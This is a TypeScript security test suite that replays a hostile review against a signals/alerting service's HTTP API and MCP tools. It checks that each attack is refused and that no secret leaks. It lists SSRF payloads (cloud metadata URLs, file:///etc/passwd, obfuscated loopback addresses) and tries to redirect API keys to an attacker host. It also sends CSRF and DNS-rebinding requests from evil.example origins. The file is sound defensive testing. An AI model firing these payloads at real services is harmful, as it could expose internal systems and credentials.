// The hostile review of issue 21, replayed as attacks against a running service: the HTTP API (as a client and as
// the dashboard's script sends it), the MCP tools through the official SDK client, and the store file afterwards.
// Every attack is refused with a 4xx and a clear message (or isolated), the attacker's receiver on an unlisted
// loopback address (127.0.0.2) never hears from the service, and no secret value appears in any answer or the store.
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/custom/config.js';
import { configFromEnv } from '../../src/http/app.js';
import { startNodeServer, type NodeServer } from '../../src/http/node.js';
import { nodeProviders } from '../../src/service/node-providers.js';
import { createSignalsService, type SignalsService } from '../../src/service/service.js';
import { openStore } from '../../src/store/libsql.js';
import type { Store } from '../../src/store/types.js';
import { answer, startFakeOpenAi, type FakeOpenAi } from '../helpers/fake-openai.js';
import { refundSignal, turn } from '../service/fixtures.js';

const MIN = 60_000;
const T0 = Date.parse('2026-12-01T12:00:00Z');

/** The operator's secrets: none may come back in any answer, label, history or the store. */
const SECRETS: Record<string, string> = {
  SIGNALS_API_TOKEN: 'tok-secret-api-3f9a1c',
  SIGNALS_DB_TOKEN: 'secret-db-token-7c1e55',
  SIGNALS_SMTP_URL: 'smtp://mailer:secret-smtp-pass-9d2b@127.0.0.1:1',
  SIGNALS_LLM_API_KEY: 'sk-secret-provider-5a3d77',
  OPENAI_API_KEY: 'sk-secret-openai-4e8f21',
  PGPASSWORD: 'secret-pg-pass-2b6c90',
  CHANNEL_HOOK: 'https://hooks.example.com/services/secret-path-8f1e',
};
/** A webhook signing secret the operator lists for channels (so not refused as a variable). */
const SIGNING_SECRET = 'secret-signing-1b7d40';
const SECRET_VALUES = [...Object.values(SECRETS), 'secret-smtp-pass-9d2b', 'secret-path-8f1e', SIGNING_SECRET];
const INTERNAL_BODY = 'INTERNAL-ONLY-BODY-6e2f do not show';

function expectNoSecret(text: string, where: string): void {
  for (const s of SECRET_VALUES) expect(text.includes(s), `${where} contains a secret`).toBe(false);
  expect(text.includes(INTERNAL_BODY), `${where} contains an internal response body`).toBe(false);
}

const listen = (server: Server, host: string) =>
  new Promise<string>((resolve) => server.listen(0, host, () => resolve(`http://${host}:${(server.address() as AddressInfo).port}`)));

let dir = '';
let store: Store;
let service: SignalsService;
let fake: FakeOpenAi;
let attacker: Server;
let attackerUrl = '';
let redirector: Server;
let redirectorUrl = '';
let failing: Server;
let failingUrl = '';
const attackerHits: string[] = [];
let clock = T0;
let withToken: NodeServer;
let noToken: NodeServer;
let mcp: Client;

const SCHEMES = ['file:///etc/passwd', 'data:text/plain,x', 'gopher://127.0.0.1:25/_HELO', 'javascript:alert(1)', 'ftp://ftp.example.com/x'];
const ADDRESSES = [
  'https://169.254.169.254/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'https://localhost/hook',
  'https://0x7f000002/hook',
  'https://2130706434/hook',
  'https://127.2/hook',
  'https://[::1]/hook',
  'https://[::ffff:127.0.0.2]/hook',
  'https://10.0.0.1/hook',
  'https://192.168.1.10/hook',
  'https://172.16.0.1/hook',
  'https://[fe80::1]/hook',
  'https://[fd00:ec2::254]/hook',
  'https://user:secret@hooks.example.com/hook',
];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'signals-attacks-'));
  fake = await startFakeOpenAi();
  fake.fallback = () => answer('no', 'no refund asked');
  attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      attackerHits.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''} ${body.slice(0, 200)}`);
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ choices: [{ message: { content: '{"explanation":"x","label":"yes"}' } }] }));
    });
  });
  attackerUrl = await listen(attacker, '127.0.0.2');
  // A destination the operator listed (127.0.0.1) that redirects to the unlisted one.
  redirector = createServer((req, res) => res.writeHead(307, { location: `${attackerUrl}/stolen${req.url}` }).end());
  redirectorUrl = await listen(redirector, '127.0.0.1');
  failing = createServer((req, res) => {
    req.resume();
    req.on('end', () => res.writeHead(500, { 'content-type': 'text/plain' }).end(INTERNAL_BODY));
  });
  failingUrl = await listen(failing, '127.0.0.1');

  const configFile = join(dir, 'signals.config.yaml');
  writeFileSync(configFile, `providers:\n  hop:\n    base_url: ${redirectorUrl}/v1\n    model: m\n    api_key_env: OPENAI_API_KEY\n`);
  const env = {
    ...SECRETS,
    SIGNALS_LLM_BASE_URL: fake.baseUrl,
    SIGNALS_LLM_MODEL: 'operator-model',
    SIGNALS_OUTBOUND_ALLOW: '127.0.0.1',
    SIGNALS_CHANNEL_VARS: 'CHANNEL_HOOK,UNSET_HOOK,HOOK_SIGNING_SECRET',
    HOOK_SIGNING_SECRET: SIGNING_SECRET,
    SIGNALS_SMTP_FROM: 'signals@alerts.test',
    SIGNALS_SMTP_TO: 'alerts.test',
    SIGNALS_CONFIG: configFile,
  };
  store = await openStore({ url: join(dir, 'signals.db') });
  service = createSignalsService(store, { env, providers: nodeProviders(env), now: () => clock });
  await service.api.createSignal({ definition: refundSignal('trace') as never, state: 'active' });
  await service.api.createSignal({
    definition: { ...refundSignal('trace'), name: 'refund-llm', judge: 'llm', rules: undefined, llm: { max_requests_per_run: 50 } } as never,
    state: 'draft',
  });
  await service.api.createSignal({
    definition: { ...refundSignal('trace'), name: 'refund-hop', judge: 'llm', rules: undefined, llm: { provider: 'hop' } } as never,
    state: 'draft',
  });
  await service.ingest([...turn({ traceId: 'a1', at: T0 - 5 * MIN, user: 'I want a refund' }), ...turn({ traceId: 'a2', at: T0 - 4 * MIN, user: 'where is my parcel?' })]);
  withToken = await startNodeServer({ ...configFromEnv(env), signals: service }, 0, '127.0.0.1');
  const tokenless: Record<string, string> = { ...env };
  delete tokenless.SIGNALS_API_TOKEN;
  noToken = await startNodeServer({ ...configFromEnv(tokenless), signals: service }, 0, '127.0.0.1');
  mcp = new Client({ name: 'attacker', version: '1.0.0' });
  await mcp.connect(new StreamableHTTPClientTransport(new URL(`${withToken.url}/mcp`), { requestInit: { headers: { authorization: `Bearer ${SECRETS.SIGNALS_API_TOKEN}` } } }));
});

afterAll(async () => {
  await mcp?.close();
  await withToken?.close();
  await noToken?.close();
  await store?.close();
  await fake?.close();
  for (const s of [attacker, redirector, failing]) s?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** The same route as an API client (bearer token) and as the dashboard's script on a token-less server sends it. */
const CLIENTS = {
  api: (path: string, init: RequestInit = {}) =>
    fetch(`${withToken.url}${path}`, {
      ...init,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${SECRETS.SIGNALS_API_TOKEN}`, ...(init.headers as Record<string, string>) },
    }),
  dashboard: (path: string, init: RequestInit = {}) =>
    fetch(`${noToken.url}${path}`, {
      ...init,
      headers: { 'content-type': 'application/json', 'x-signals-client': 'dashboard', origin: noToken.url, ...(init.headers as Record<string, string>) },
    }),
};

async function answerOf(res: Response, where: string): Promise<string> {
  const text = await res.text();
  expectNoSecret(text, where);
  return text;
}

const llmDefinition = (llm: Record<string, unknown>) => ({ ...refundSignal('trace'), name: 'stealer', judge: 'llm', rules: undefined, llm });

describe.each(Object.keys(CLIENTS) as (keyof typeof CLIENTS)[])('finding 1: a caller picks a key variable and a URL (%s)', (who) => {
  const call = CLIENTS[who];
  it.each(Object.keys(SECRETS))('naming %s as the key variable is refused everywhere a definition is taken', async (variable) => {
    for (const base of [`${attackerUrl}/v1`, 'https://attacker.example/v1']) {
      const def = llmDefinition({ base_url: base, model: 'm', api_key_env: variable });
      const routes: Array<[string, string, unknown]> = [
        ['POST', '/v1/signals', { definition: def }],
        ['POST', '/v1/signals/test', { definition: def, conversations: [[{ role: 'user', content: 'refund please' }]] }],
        ['POST', '/v1/signals/test', { definition: def, sample: 5 }],
        ['PATCH', '/v1/signals/refund-llm', { llm: { base_url: base, api_key_env: variable } }],
      ];
      for (const [method, path, body] of routes) {
        const res = await call(path, { method, body: JSON.stringify(body) });
        const text = await answerOf(res, `${method} ${path}`);
        expect(res.status, `${method} ${path}: ${text}`).toBe(400);
        expect(text).toMatch(/llm\.(base_url|api_key_env): a signal names a provider \(llm\.provider\) and may pick a model; URLs and keys are configured by the operator/);
      }
    }
    expect(attackerHits).toEqual([]);
  });

  it('?/# in a base URL, and a provider the operator did not configure, are refused', async () => {
    for (const base of [`${redirectorUrl}/v1?`, `${redirectorUrl}/v1#x`, `${fake.baseUrl}/../../admin?`]) {
      const res = await call('/v1/signals', { method: 'POST', body: JSON.stringify({ definition: llmDefinition({ base_url: base }) }) });
      expect(res.status).toBe(400);
      await answerOf(res, base);
    }
    const res = await call('/v1/signals', { method: 'POST', body: JSON.stringify({ definition: llmDefinition({ provider: 'attacker' }) }) });
    expect(res.status).toBe(400);
    expect(await answerOf(res, 'unknown provider')).toMatch(/llm\.provider: no provider \\"attacker\\" \(the operator configured: default, hop/);
    expect(attackerHits).toEqual([]);
  });

  it("a signal's test reaches only the operator's provider, with the operator's key, and lists providers without keys", async () => {
    const before = fake.requests.length;
    const res = await call('/v1/signals/refund-llm/test', { method: 'POST', body: JSON.stringify({ sample: 2, since: new Date(T0 - 10 * MIN).toISOString() }) });
    const text = await answerOf(res, 'signal test');
    expect(res.status, text).toBe(200);
    expect(fake.requests.length).toBe(before + 2);
    expect(fake.requests.at(-1)!.headers.authorization).toBe(`Bearer ${SECRETS.SIGNALS_LLM_API_KEY}`);
    const providers = await call('/v1/providers');
    const listed = await answerOf(providers, 'providers');
    expect(JSON.parse(listed).map((p: { name: string }) => p.name)).toEqual(['default', 'hop']);
    expect(listed).not.toMatch(/api_key|OPENAI_API_KEY|SIGNALS_LLM_API_KEY/);
  });
});

describe('finding 3: server-side request forgery', () => {
  it.each([...SCHEMES, ...ADDRESSES])('a webhook to %s is refused when the alert is created', async (url) => {
    for (const call of Object.values(CLIENTS)) {
      for (const type of ['webhook', 'slack']) {
        const rule = { name: 'ssrf', signal: 'refund-trace', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels: [{ type, url }] };
        const res = await call('/v1/alerts', { method: 'POST', body: JSON.stringify(rule) });
        const text = await answerOf(res, url);
        expect(res.status, text).toBe(400);
      }
    }
    expect(attackerHits).toEqual([]);
  });

  it('an operator provider that redirects to an unlisted loopback address: the judge stops at the redirect, the key goes nowhere', async () => {
    const res = await CLIENTS.api('/v1/signals/refund-hop/test', { method: 'POST', body: JSON.stringify({ sample: 1, since: new Date(T0 - 10 * MIN).toISOString() }) });
    const body = JSON.parse(await answerOf(res, 'hop test')) as { rows: { status: string; explanation: string }[] };
    expect(body.rows[0]).toMatchObject({ status: 'error', explanation: 'LLM destination refused: destination is a loopback address (list it in SIGNALS_OUTBOUND_ALLOW to allow it)' });
    expect(attackerHits).toEqual([]);
  });
});

describe('finding 2: alert channels and their history', () => {
  it.each(Object.keys(SECRETS).filter((v) => v !== 'CHANNEL_HOOK'))('%s as url_env or secret_env is refused at creation, set or not', async (variable) => {
    for (const channel of [
      { type: 'webhook', url_env: variable },
      { type: 'slack', url_env: variable },
      { type: 'webhook', url: 'https://hooks.example.com/x', secret_env: variable },
    ]) {
      const rule = { name: 'leak', signal: 'refund-trace', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels: [channel] };
      for (const call of Object.values(CLIENTS)) {
        const res = await call('/v1/alerts', { method: 'POST', body: JSON.stringify(rule) });
        const text = await answerOf(res, `${variable} channel`);
        expect(res.status).toBe(400);
        expect(text).toContain(`variable ${variable} is not one the operator lets alert channels read`);
      }
    }
    // The same answer for a variable that is not set at all: nothing tells whether one exists.
    const unset = { name: 'leak', signal: 'refund-trace', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels: [{ type: 'webhook', url_env: 'NOT_SET_ANYWHERE' }] };
    const res = await CLIENTS.api('/v1/alerts', { method: 'POST', body: JSON.stringify(unset) });
    expect(res.status).toBe(400);
    expect(await res.text()).toContain('variable NOT_SET_ANYWHERE is not one the operator lets alert channels read');
  });

  it("a listed signing secret signs only for a destination the operator configured: with a caller's url it is refused at creation", async () => {
    // Otherwise the caller's receiver gets notifications (whose alert name and text it chose) signed with the
    // operator's secret, which it can replay to the operator's own receivers as genuine.
    for (const url of ['https://hooks.example.com/x', `${attackerUrl}/signed`]) {
      const rule = { name: 'oracle', signal: 'refund-trace', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels: [{ type: 'webhook', url, secret_env: 'HOOK_SIGNING_SECRET' }] };
      for (const call of Object.values(CLIENTS)) {
        const res = await call('/v1/alerts', { method: 'POST', body: JSON.stringify(rule) });
        const text = await answerOf(res, 'signing secret with a url');
        expect(res.status, text).toBe(400);
        expect(text).toContain('channels[0].secret_env: a signing secret signs only for a destination the operator configured');
      }
    }
    expect((await service.api.listAlerts()).map((a) => a.name)).not.toContain('oracle');
  });

  it("an email channel may not choose the sender (the operator's SMTP server would mail as anyone) nor a recipient outside SIGNALS_SMTP_TO", async () => {
    const email = (channel: Record<string, unknown>) => ({ name: 'spoof', signal: 'refund-trace', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels: [{ type: 'email', ...channel }] });
    const existing = await CLIENTS.api('/v1/alerts', { method: 'POST', body: JSON.stringify({ ...email({ to: ['oncall@alerts.test'] }), name: 'mail-ok' }) });
    expect(existing.status).toBe(201);
    for (const call of Object.values(CLIENTS)) {
      for (const [method, path, body] of [
        ['POST', '/v1/alerts', email({ to: ['oncall@alerts.test'], from: 'ceo@bank.example' })],
        ['PATCH', '/v1/alerts/mail-ok', { channels: [{ type: 'email', to: ['oncall@alerts.test'], from: 'Bank <ceo@bank.example>' }] }],
      ] as const) {
        const res = await call(path, { method, body: JSON.stringify(body) });
        const text = await answerOf(res, `${method} ${path} with from`);
        expect(res.status, text).toBe(400);
        expect(JSON.parse(text).error.details).toEqual([`channels[0]: from: the sender is the operator's setting SIGNALS_SMTP_FROM; an alert channel may not choose it (remove "from")`]);
      }
      const res = await call('/v1/alerts', { method: 'POST', body: JSON.stringify(email({ to: ['oncall@alerts.test', 'victim@elsewhere.example'] })) });
      const text = await answerOf(res, 'unlisted recipient');
      expect(res.status, text).toBe(400);
      expect(JSON.parse(text).error.details).toEqual([
        'channels[0].to[1]: recipient victim@elsewhere.example is not one SIGNALS_SMTP_TO lists (the addresses and domains the operator lets email channels send to)',
      ]);
    }
    expect((await service.api.listAlerts()).map((a) => a.name)).not.toContain('spoof');
    await service.api.setAlertPaused('mail-ok', true);
  });

  it('a firing alert records status codes and fixed reasons: no receiver body, no URL from a variable, no set-or-not', async () => {
    const rule = {
      name: 'refunds-any',
      signal: 'refund-trace',
      metric: 'volume',
      comparison: 'above',
      threshold: 0,
      window: '5m',
      every: '1m',
      channels: [
        { type: 'webhook', name: 'failing', url: `${failingUrl}/hook` },
        { type: 'webhook', name: 'redirected', url: `${redirectorUrl}/hook` },
        { type: 'slack', name: 'listed-var', url_env: 'CHANNEL_HOOK' },
        { type: 'webhook', name: 'listed-unset', url_env: 'UNSET_HOOK' },
      ],
    };
    const created = await CLIENTS.api('/v1/alerts', { method: 'POST', body: JSON.stringify(rule) });
    const alert = JSON.parse(await answerOf(created, 'alert create')) as { id: string };
    expect(created.status).toBe(201);
    await service.ingest(turn({ traceId: 'f1', at: clock + 1000, user: 'refund now' }));
    for (let k = 0; k < 2; k++) {
      clock += MIN;
      await service.tick(clock);
    }
    const history = await CLIENTS.api(`/v1/alerts/${alert.id}/history`);
    const text = await answerOf(history, 'history');
    const deliveries = (JSON.parse(text) as { type: string; channel?: string; error?: string | null; httpStatus?: number | null }[]).filter((e) => e.type === 'delivery');
    const errors = Object.fromEntries(deliveries.map((d) => [d.channel, d.error]));
    expect(errors.failing).toBe('HTTP 500');
    expect(errors.redirected).toBe('destination refused: destination is a loopback address (list it in SIGNALS_OUTBOUND_ALLOW to allow it)');
    expect(errors['listed-var']).toMatch(/^(destination unreachable: its host name does not resolve|request failed: network error( \([A-Z_]+\))?|HTTP \d{3})$/);
    expect(errors['listed-unset']).toBe('url_env UNSET_HOOK: not available to alert channels (the operator lists channel variables in SIGNALS_CHANNEL_VARS and sets them)');
    expect(attackerHits).toEqual([]);
  });
});

/** A raw HTTP request (node:http), so Host and Origin are exactly what an attacker's browser would send. */
function raw(url: string, method: string, headers: Record<string, string>, body = ''): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { method, headers }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

describe('finding 5: a cross-site page and DNS rebinding against a server without a token', () => {
  it('a text/plain form post cannot pause an alert or cancel a run, nor a JSON one from a foreign origin', async () => {
    const alert = (await service.api.listAlerts()).find((a) => a.name === 'refunds-any')!;
    const run = await service.api.startRun('refund-trace', { since: new Date(T0 - 60 * MIN).toISOString(), until: new Date(T0).toISOString() });
    const evil = { origin: 'https://evil.example' };
    const attempts = [
      // A foreign Origin is refused whatever the content type; without one (a privacy-stripped form) the type decides.
      [`/v1/alerts/${alert.id}/pause`, { ...evil, 'content-type': 'text/plain' }, 403],
      [`/v1/alerts/${alert.id}/pause`, { ...evil, 'content-type': 'application/json' }, 403],
      [`/v1/alerts/${alert.id}/pause`, { 'content-type': 'text/plain' }, 415],
      [`/v1/alerts/${alert.id}/pause`, { 'content-type': 'application/x-www-form-urlencoded' }, 415],
      [`/v1/alerts/${alert.id}/pause`, {}, 403],
      [`/v1/runs/${run.id}/cancel`, { ...evil, 'content-type': 'text/plain' }, 403],
      [`/v1/runs/${run.id}/cancel`, { 'content-type': 'multipart/form-data; boundary=x' }, 415],
      ['/mcp', { ...evil, 'content-type': 'text/plain', accept: 'application/json, text/event-stream' }, 403],
      ['/mcp', { 'content-type': 'text/plain', accept: 'application/json, text/event-stream' }, 415],
      ['/v1/signals', { 'content-type': 'text/plain' }, 415],
    ] as const;
    for (const [path, headers, status] of attempts) {
      const res = await raw(`${noToken.url}${path}`, 'POST', headers as Record<string, string>, '{}');
      expect(res.status, `${path} ${JSON.stringify(headers)}: ${res.text}`).toBe(status);
      expect(JSON.parse(res.text).error.message).toMatch(/SIGNALS_API_TOKEN/);
    }
    expect((await service.api.listAlerts()).find((a) => a.id === alert.id)!.state).not.toBe('paused');
    expect((await service.api.getRun(run.id)).status).not.toBe('cancelled');
    // The dashboard's own script (same origin, X-Signals-Client) still works.
    const own = await CLIENTS.dashboard(`/v1/alerts/${alert.id}/pause`, { method: 'POST', headers: { 'content-type': '' } });
    expect(own.status).toBe(200);
    await CLIENTS.dashboard(`/v1/alerts/${alert.id}/resume`, { method: 'POST' });
  });

  it('a foreign Host (DNS rebinding) gets 403 on reads and writes; loopback names are answered', async () => {
    const port = new URL(noToken.url).port;
    for (const [method, path] of [['GET', '/v1/signals'], ['GET', '/v1/alerts'], ['POST', '/v1/signals'], ['GET', '/']] as const) {
      const res = await raw(`${noToken.url}${path}`, method, { host: `rebind.evil.example:${port}`, 'content-type': 'application/json' }, method === 'POST' ? '{}' : '');
      expect(res.status, `${method} ${path}`).toBe(403);
      expect(res.text).toContain('Host not allowed');
      expectNoSecret(res.text, 'rebinding');
    }
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`]) {
      expect((await raw(`${noToken.url}/v1/signals`, 'GET', { host })).status).toBe(200);
    }
  });
});

describe('the same attacks through the MCP tools (official SDK client)', () => {
  const tool = async (name: string, args: Record<string, unknown>) => {
    const r = (await mcp.callTool({ name, arguments: args })) as { isError?: boolean; content: { text: string }[] };
    const text = r.content.map((c) => c.text).join('');
    expectNoSecret(text, `mcp ${name}`);
    return { isError: r.isError, text };
  };

  it.each(Object.keys(SECRETS))('create_signal, test_signal and edit_signal refuse %s as a key variable', async (variable) => {
    const llm = { base_url: `${attackerUrl}/v1`, model: 'm', api_key_env: variable };
    for (const [name, args] of [
      ['create_signal', { definition: llmDefinition(llm) }],
      ['test_signal', { definition: llmDefinition(llm), sample: 2 }],
      ['edit_signal', { signal: 'refund-llm', changes: { llm } }],
    ] as const) {
      const r = await tool(name, args);
      expect(r.isError, `${name}: ${r.text}`).toBe(true);
      expect(r.text).toMatch(/a signal names a provider \(llm\.provider\) and may pick a model/);
    }
    expect(attackerHits).toEqual([]);
  });

  it('create_alert refuses every listed scheme and address, and variables the operator did not list', async () => {
    for (const url of [...SCHEMES, ...ADDRESSES]) {
      const r = await tool('create_alert', { signal: 'refund-trace', name: 'mcp-ssrf', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels: [{ type: 'webhook', url }] });
      // Tools that pass channels on must refuse them; tools that drop them create a channel-less alert (no outbound call).
      if (!r.isError) expect(JSON.parse(r.text).rule?.channels ?? []).toEqual([]);
      if (!r.isError) await tool('pause_alert', { alert: JSON.parse(r.text).id, paused: true });
      if (!r.isError) break;
    }
    expect(attackerHits).toEqual([]);
  });

  it("create_alert and edit_alert refuse an email sender (it is the operator's SIGNALS_SMTP_FROM) rather than drop it", async () => {
    const channels = [{ type: 'email', to: ['oncall@alerts.test'], from: 'ceo@bank.example' }];
    for (const [name, args] of [
      ['create_alert', { signal: 'refund-trace', name: 'mcp-spoof', metric: 'volume', comparison: 'above', threshold: 0, window: '5m', channels }],
      ['edit_alert', { alert: 'mail-ok', changes: { channels } }],
    ] as const) {
      const r = await tool(name, args);
      expect(r.isError, `${name}: ${r.text}`).toBe(true);
      expect(r.text).toContain(`from: the sender is the operator's setting SIGNALS_SMTP_FROM`);
    }
    expect((await service.api.listAlerts()).map((a) => a.name)).not.toContain('mcp-spoof');
  });
});

describe('nothing secret in the store', () => {
  it('scans every file of the store for each secret value and the internal body', async () => {
    await store.close();
    store = await openStore({ url: join(dir, 'signals.db') });
    for (const file of readdirSync(dir).filter((f) => f.startsWith('signals.db'))) {
      const bytes = readFileSync(join(dir, file)).toString('latin1');
      expectNoSecret(bytes, file);
    }
  });
});

describe('acceptance 3: config files written before providers', () => {
  const legacy = (keyEnv: string, url = 'https://api.openai.com/v1') =>
    `signals:\n  - name: s\n    scope: trace\n    type: binary\n    prompt: p?\n    judge: llm\n    llm:\n      base_url: ${url}\n      model: gpt-4o-mini\n      api_key_env: ${keyEnv}\n      max_usd_per_day: 5\n      price_per_1k_input: 0.001\n`;

  it('map to the operator provider with the same URL and key variable', () => {
    const text = `providers:\n  openai:\n    base_url: https://api.openai.com/v1/\n    model: gpt-4o\n    api_key_env: OPENAI_API_KEY\n${legacy('OPENAI_API_KEY')}`;
    expect(loadConfig(text).signals[0].llm).toEqual({ provider: 'openai', model: 'gpt-4o-mini', max_usd_per_day: 5 });
  });

  it('otherwise stop the start saying what to move where', () => {
    const file = join(dir, 'legacy.yaml');
    writeFileSync(file, legacy('OPENAI_API_KEY', 'https://llm.example.com/v1'));
    expect(() => nodeProviders({ SIGNALS_CONFIG: file })).toThrow(
      /signals\[0\]\.llm: llm\.base_url and llm\.api_key_env are the operator's settings now, and no operator provider has this URL and key variable OPENAI_API_KEY: move them to the config file's providers: \{ NAME: \{ base_url: <its URL>, model: <model>, api_key_env: OPENAI_API_KEY \} \}.*and write llm: \{ provider: NAME \} in the signal/,
    );
  });
});
